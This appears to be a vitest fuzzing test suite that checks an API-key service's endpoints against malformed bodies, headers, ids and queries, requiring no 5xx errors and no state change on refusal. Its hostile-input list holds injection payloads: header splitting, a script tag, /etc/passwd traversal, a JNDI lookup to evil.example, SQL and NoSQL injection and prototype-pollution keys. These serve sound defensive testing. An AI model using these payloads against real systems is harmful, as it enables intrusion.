import { randomUUID } from "node:crypto";
import { beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { hasTables, tablesName } from "#tests/core/support/tables.ts";
import { fc, longestMs, runs } from "#tests/support/property.ts";
import { Browser, type HttpReply } from "./support/gateway.ts";
import { captureLog } from "./support/log.ts";
import { unkeyKeysOf, useStandIns } from "./support/stand-ins.ts";

vi.stubEnv("RATE_LIMIT_SCALE", "100000");

const deep = (levels: number): string => `${'{"a":'.repeat(levels)}1${"}".repeat(levels)}`;

/** Texts that break parsers, stores, logs and headers which do not expect them. */
const hostileTexts = [
  "",
  " ",
  "\u0000",
  "a\u0000b",
  "\ud800",
  "\udc00\ud800",
  "a\r\nSet-Cookie: evil=1",
  "a\r\n\r\n<script>alert(1)</script>",
  "__proto__",
  "constructor",
  "toString",
  "../../../etc/passwd",
  "%00",
  "%E0%A4%A",
  "$\u007bjndi:ldap://evil.example}",
  "' OR 1=1 --",
  "\u202egnp.exe",
  "👩‍👩‍👧‍👦".repeat(30),
  "ﷺ".repeat(100),
  "a\u0301".repeat(60),
  "#begins_with(pk)",
  "USER#someone",
  "x".repeat(101),
  "x".repeat(10_000),
  "💥".repeat(5_000),
  "-1",
  "1e999",
  "NaN",
  "9999-12-31T23:59:59Z",
  "2101-01-01T00:00:00Z",
  "1969-12-31T23:59:59Z",
  "2026-02-30T00:00:00Z",
] as const;

const hostileText = fc.oneof(fc.constantFrom(...hostileTexts), fc.string({ unit: "binary", maxLength: 40 }));

const hostileValues: readonly unknown[] = [
  ...[null, true, false, 0, -1, 1.5, 10_001, 2 ** 53, 1e308, -1e308],
  ...[[], {}, [[]], [null], { length: 1 }, { toString: "x" }, { $ne: null }],
];

const hostileValue = fc.oneof(
  hostileText,
  fc.constantFrom(...hostileValues),
  fc.array(hostileText, { maxLength: 3 }),
  fc.dictionary(hostileText, hostileText, { maxKeys: 3 }),
  fc.double(),
);

type Body = Readonly<Record<string, unknown>>;

/** A good body with one thing or several wrong: a field gone, of another value, or one too many. */
const broken = (good: Body): fc.Arbitrary<Body> =>
  fc
    .array(
      fc.oneof(
        fc.record({ kind: fc.constant("drop" as const), name: fc.constantFrom(...Object.keys(good)) }),
        fc.record({
          kind: fc.constant("set" as const),
          name: fc.constantFrom(...Object.keys(good)),
          value: hostileValue,
        }),
        fc.record({ kind: fc.constant("add" as const), name: hostileText, value: hostileValue }),
      ),
      { minLength: 1, maxLength: 3 },
    )
    .map((changes) => {
      const fields = new Map(Object.entries(good));
      for (const change of changes) {
        if (change.kind === "drop") fields.delete(change.name);
        else fields.set(change.name, change.value);
      }
      return Object.fromEntries(fields);
    });

/** Bodies that are wrong as a whole. */
const rawBody = fc.oneof(
  fc.constantFrom(
    "",
    "{",
    "null",
    "42",
    '"text"',
    "[]",
    "[{}]",
    "{}",
    "undefined",
    "{'name': 'x'}",
    '{"name": "x",}',
    '{"name": "x"} {"name": "y"}',
    '{"__proto__": {"name": "x"}}',
    '{"constructor": {"prototype": {"name": "x"}}}',
    '{"name": "x", "name": "y"}',
    "\ufeff{}",
    "\u0000",
    deep(500),
    deep(20_000),
    `[${"1,".repeat(50_000)}1]`,
    `{"name":"${"x".repeat(300_000)}"}`,
  ),
  fc.string({ unit: "binary", maxLength: 60 }),
  fc.json({ maxDepth: 6 }),
);

const hostileHeaders = fc.constantFrom<Readonly<Record<string, string>>>(
  {},
  { "content-type": "text/plain" },
  { "content-type": "application/json; charset=utf-16" },
  { "content-type": "" },
  { "x-request-id": "a\r\nSet-Cookie: evil=1" },
  { "x-request-id": "💥" },
  { "x-provider-key": "\u0000" },
  { host: "localhost:8787" },
);

/** What a rotation takes: whole seconds, up to 30 days. */
const isGrace = (value: unknown): boolean =>
  Number.isInteger(value) && Number(value) >= 0 && Number(value) <= 2_592_000;

const key = { name: "A key", rateLimit: 60, expiresAt: "2030-01-01T00:00:00Z" };
const providerKey = { provider: "openai", slug: "main", displayName: "Main", apiKey: "sk-1234567890" };

describe.skipIf(!hasTables)(`bad input (${tablesName})`, () => {
  const standIns = useStandIns();
  captureLog();
  let browser: Browser;
  let userId: string;
  let keyId: string;

  beforeAll(async () => {
    const user = await standIns().createUser();
    userId = user.userId;
    browser = await new Browser().signIn(user);
    keyId = (await browser.post("/api/v1/keys", key)).data<{ keyId: string }>().keyId;
  });

  /** Everything that a call could leave behind: our rows of the user, Unkey's keys, who has an account. */
  const state = async (): Promise<string> => {
    const own = (rows: readonly Readonly<Record<string, unknown>>[]) =>
      rows
        .filter(({ pk, userId: owner }) => pk === `USER#${userId}` || owner === userId)
        .map((row) => JSON.stringify(Object.entries(row).sort(([left], [right]) => left.localeCompare(right))))
        .sort();
    return JSON.stringify([
      own(await standIns().rows("keys")),
      own(await standIns().rows("providerKeys")),
      await unkeyKeysOf(standIns().unkey, userId),
    ]);
  };

  const expectSound = (reply: HttpReply): void => {
    expect(reply.status, reply.text.slice(0, 500)).toBeLessThan(500);
    expect(reply.headers["x-request-id"]).toMatch(/^req_[\w-]+$/);
    for (const value of [...Object.values(reply.headers), ...reply.setCookies]) expect(value).not.toMatch(/[\r\n\0]/);
    if (reply.status >= 400) {
      expect(reply.error().code).toMatch(/^[A-Z_]+$/);
    }
  };

  /** What lies there since the last refusal: reading it all is most of what a call costs here. */
  let known: string | undefined;
  beforeEach(() => {
    known = undefined;
  });

  /** Sends it; a refusal must leave everything as it was. */
  const probe = async (
    method: string,
    path: string,
    body: unknown,
    headers: Readonly<Record<string, string>> = {},
  ): Promise<HttpReply> => {
    const before = known ?? (await state());
    known = undefined;
    const reply = await browser.clone().send({ method, path, ...(body === undefined ? {} : { body }), headers });
    expectSound(reply);
    if (reply.status >= 400) {
      known = await state();
      expect(known).toBe(before);
    }
    return reply;
  };

  const removeWhatWasMade = async (reply: HttpReply, path: string): Promise<void> => {
    if (reply.status !== 201) return;
    const { keyId: made, id = made } = reply.data<{ keyId?: string; id?: string }>();
    expect((await browser.delete(`${path}/${id}`)).status).toBe(204);
  };

  const bodies: readonly (readonly [string, string, Body])[] = [
    ["POST", "/api/v1/keys", key],
    ["POST", "/api/v1/provider-keys", providerKey],
    ["POST", "/api/auth/sign-in", { email: "ada@test.local", password: "a good password" }],
    ["POST", "/api/auth/sign-up", { email: "ada@test.local", password: "a good password" }],
    ["POST", "/api/auth/magic-link", { email: "ada@test.local", next: "/dashboard" }],
    ["POST", "/api/auth/reset-password", { email: "ada@test.local" }],
  ];

  it.each([...bodies, ["PATCH", "/api/v1/keys/", key] as const])(
    "of each kind in each field of %s %s is never a 5xx",
    async (method, path, good) => {
      for (const name of Object.keys(good)) {
        for (const value of [...hostileTexts, ...hostileValues]) {
          const where = method === "PATCH" ? path + keyId : path;
          const reply = await browser.clone().send({ method, path: where, body: { ...good, [name]: value } });
          expect(reply.status, `${name}: ${JSON.stringify(value).slice(0, 100)}: ${reply.text}`).toBeLessThan(500);
          expectSound(reply);
          await removeWhatWasMade(reply, path);
        }
      }
    },
    longestMs(120_000),
  );

  it.each(bodies)(
    "in fields of %s %s is never a 5xx, and leaves nothing behind",
    async (method, path, good) => {
      await fc.assert(
        fc.asyncProperty(broken(good), async (body) => {
          await removeWhatWasMade(await probe(method, path, body), path);
        }),
        { numRuns: runs(50) },
      );
    },
    longestMs(120_000),
  );

  it.each(bodies)(
    "as the whole body of %s %s is never a 5xx, and leaves nothing behind",
    async (method, path) => {
      await fc.assert(
        fc.asyncProperty(rawBody, hostileHeaders, async (body, headers) => {
          await removeWhatWasMade(await probe(method, path, body, headers), path);
        }),
        { numRuns: runs(30) },
      );
    },
    longestMs(120_000),
  );

  it(
    "in fields and bodies of PATCH /api/v1/keys/:id is never a 5xx, and a refusal changes nothing",
    async () => {
      const patch = { name: "Renamed", rateLimit: 70, enabled: true, expiresAt: "2030-01-01T00:00:00Z" };
      await fc.assert(
        fc.asyncProperty(fc.oneof(broken(patch), rawBody), hostileHeaders, async (body, headers) => {
          await probe("PATCH", `/api/v1/keys/${keyId}`, body, headers);
        }),
        { numRuns: runs(60) },
      );
      expect((await browser.get("/api/v1/keys")).status).toBe(200);
    },
    longestMs(120_000),
  );

  it(
    "in the body of POST /api/v1/keys/:id/rotate is never a 5xx, and a refusal changes nothing",
    async () => {
      await fc.assert(
        fc.asyncProperty(
          fc.oneof(
            rawBody.filter((text) => text !== "" && text !== "{}"),
            hostileValue.filter((value) => !isGrace(value)).map((gracePeriodSeconds) => ({ gracePeriodSeconds })),
            fc.dictionary(
              hostileText.filter((name) => name !== ""),
              hostileValue,
              { minKeys: 1, maxKeys: 2 },
            ),
          ),
          async (body) => {
            expect((await probe("POST", `/api/v1/keys/${keyId}/rotate`, body)).status).toBeGreaterThanOrEqual(400);
          },
        ),
        { numRuns: runs(50) },
      );
    },
    longestMs(120_000),
  );

  it(
    "in the body of POST /api/auth/update-password is never a 5xx",
    async () => {
      const user = await standIns().createUser();
      const own = await new Browser().signIn(user);
      await fc.assert(
        fc.asyncProperty(fc.oneof(broken({ password: "a good password" }), rawBody), async (body) => {
          expectSound(await own.send({ method: "POST", path: "/api/auth/update-password", body }));
        }),
        { numRuns: runs(30) },
      );
    },
    longestMs(120_000),
  );

  const id = fc
    .oneof(
      hostileText.filter((text) => text.isWellFormed()).map(encodeURIComponent),
      fc.constantFrom(
        "%",
        "%zz",
        "%00",
        "%F0%9F%92%A5",
        "%ED%A0%80",
        "..",
        "%2e%2e",
        "a%2Fb",
        "key_".padEnd(3_000, "x"),
      ),
      fc.stringMatching(/^[\w.~%-]{1,30}$/),
    )
    .filter((text) => text !== "" && !text.includes("/"));

  it.each([
    ["DELETE", "/api/v1/keys/"],
    ["PATCH", "/api/v1/keys/"],
    ["DELETE", "/api/v1/provider-keys/"],
  ])(
    "as the id of %s %s:id is a 404 or a 400, never a 5xx",
    async (method, path) => {
      await fc.assert(
        fc.asyncProperty(id, async (text) => {
          const reply = await probe(method, path + text, method === "PATCH" ? { name: "x" } : undefined);
          expect([400, 404]).toContain(reply.status);
        }),
        { numRuns: runs(60) },
      );
    },
    longestMs(120_000),
  );

  it(
    "as the id of POST /api/v1/keys/:id/rotate is a 404 or a 400, never a 5xx",
    async () => {
      await fc.assert(
        fc.asyncProperty(id, async (text) => {
          expect([400, 404]).toContain((await probe("POST", `/api/v1/keys/${text}/rotate`, undefined)).status);
        }),
        { numRuns: runs(60) },
      );
    },
    longestMs(120_000),
  );

  it(
    "as the query of any GET is never a 5xx",
    async () => {
      const query = fc
        .array(
          fc.tuple(
            fc.oneof(fc.constantFrom("from", "to", "keyId", "code", "next", "type", "token_hash"), hostileText),
            hostileText,
          ),
          { maxLength: 4 },
        )
        .map((pairs) =>
          pairs
            .map(
              ([name, value]) =>
                `${encodeURIComponent(name.toWellFormed())}=${encodeURIComponent(value.toWellFormed())}`,
            )
            .join("&"),
        );
      const path = fc.constantFrom(
        "/api/v1/usage",
        "/api/v1/keys",
        "/api/v1/provider-keys",
        "/api/auth/session",
        "/api/auth/callback",
        "/api/auth/oauth/github",
      );
      // The first look at provider keys makes the user's external id for Bedrock, once.
      await browser.clone().send({ path: "/api/v1/provider-keys" });
      known = undefined;
      await fc.assert(
        fc.asyncProperty(path, query, async (where, text) => {
          const before = known ?? (await state());
          expectSound(await browser.clone().send({ path: `${where}?${text}` }));
          known = await state();
          expect(known).toBe(before);
        }),
        { numRuns: runs(60) },
      );
    },
    longestMs(120_000),
  );

  it(
    "in headers of any call is never a 5xx",
    async () => {
      const name = fc.constantFrom(
        "authorization",
        "x-api-key",
        "cookie",
        "origin",
        "sec-fetch-site",
        "host",
        "x-request-id",
        "content-type",
        "x-forwarded-for",
        "accept",
      );
      const call = fc.constantFrom(
        ["GET", "/api/v1/usage"],
        ["GET", "/api/v1/keys"],
        ["POST", "/api/v1/keys"],
        ["POST", "/api/v1/provider-keys"],
        ["POST", "/api/auth/sign-in"],
        ["GET", "/api/auth/oauth/github"],
      );
      await fc.assert(
        fc.asyncProperty(
          call,
          fc.dictionary(name, hostileText, { minKeys: 1, maxKeys: 4 }),
          async ([method = "", path = ""], headers) => {
            const before = known ?? (await state());
            const reply = await browser
              .clone()
              .send({ method, path, headers, ...(method === "POST" ? { body: "{}" } : {}) });
            expectSound(reply);
            known = await state();
            expect(known).toBe(before);
          },
        ),
        { numRuns: runs(60) },
      );
    },
    longestMs(120_000),
  );

  it("of 5 MB and more is refused before it is read", async () => {
    const reply = await probe("POST", "/api/v1/keys", JSON.stringify({ name: "x".repeat(5 * 1024 * 1024) }));
    expect(reply.error().code).toBe("PAYLOAD_TOO_LARGE");
  });

  it("names every field that is wrong", async () => {
    const reply = await probe("POST", "/api/v1/provider-keys", {
      provider: "openai",
      slug: "A b",
      displayName: 1,
      apiKey: "short",
      more: 1,
    });
    const { details } = reply.error();
    const paths = (details.issues as readonly { path: string }[]).map(({ path }) => path).sort();
    expect(paths).toEqual(["apiKey", "displayName", "more", "slug"]);
    // Which fields there are depends on the provider.
    expect((await probe("POST", "/api/v1/provider-keys", { provider: "nobody" })).error()).toMatchObject({
      code: "BAD_REQUEST",
      param: "provider",
    });
    expect((await probe("POST", "/api/v1/keys", {})).error()).toMatchObject({
      code: "MISSING_REQUIRED_FIELD",
      param: "name",
    });
  });

  it("in a name is kept as it came, where it is allowed at all", async () => {
    const names = ["👩‍👩‍👧‍👦 key", "ключ", "<b>bold</b>", "a\u202eb", "x".repeat(100), "__proto__", randomUUID()];
    for (const name of names) {
      const reply = await browser.post("/api/v1/keys", { name });
      expect(reply.status, reply.text).toBe(201);
      const made = reply.data<{ keyId: string; name: string }>();
      expect(made.name).toBe(name);
      const listed = (await browser.get("/api/v1/keys")).data<readonly { keyId: string; name: string }[]>();
      expect(listed.find((view) => view.keyId === made.keyId)?.name).toBe(name);
      await browser.delete(`/api/v1/keys/${made.keyId}`);
    }
  });
});
